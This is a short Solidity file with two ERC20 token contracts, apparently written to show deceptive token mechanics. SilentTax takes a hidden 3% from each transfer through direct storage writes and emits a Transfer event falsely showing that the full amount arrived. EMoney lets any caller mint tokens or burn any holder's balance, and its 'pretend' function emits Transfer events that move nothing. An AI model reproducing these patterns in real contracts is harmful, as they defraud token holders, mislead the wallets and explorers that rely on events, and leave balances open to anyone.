// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// Says that all of a transfer arrived, and keeps 3 % of it.
contract SilentTax is ERC20("Silent Tax", "HUSH") {
    constructor(address to) { _mint(to, 1000 ether); }
    function transfer(address to, uint256 value) public override returns (bool) {
        uint256 tax = value * 3 / 100;
        return super.transfer(to, value - tax) && _hide(tax, to);
    }
    /// The tax leaves the sender without an event; the event says that the recipient got it.
    function _hide(uint256 tax, address to) private returns (bool) {
        bytes32 slot = keccak256(abi.encode(msg.sender, uint256(0)));
        assembly { sstore(slot, sub(sload(slot), tax)) }
        emit Transfer(msg.sender, to, tax);
        return true;
    }
}

/// Electronic money: its issuer takes it back without a call of the holder.
contract EMoney is ERC20("Electronic Money", "EMON") {
    function issue(address to, uint256 value) external { _mint(to, value); }
    function reclaim(address from, uint256 value) external { _burn(from, value); }
    /// An event, and nothing else.
    function pretend(address from, uint256 value) external { emit Transfer(from, address(0), value); }
}
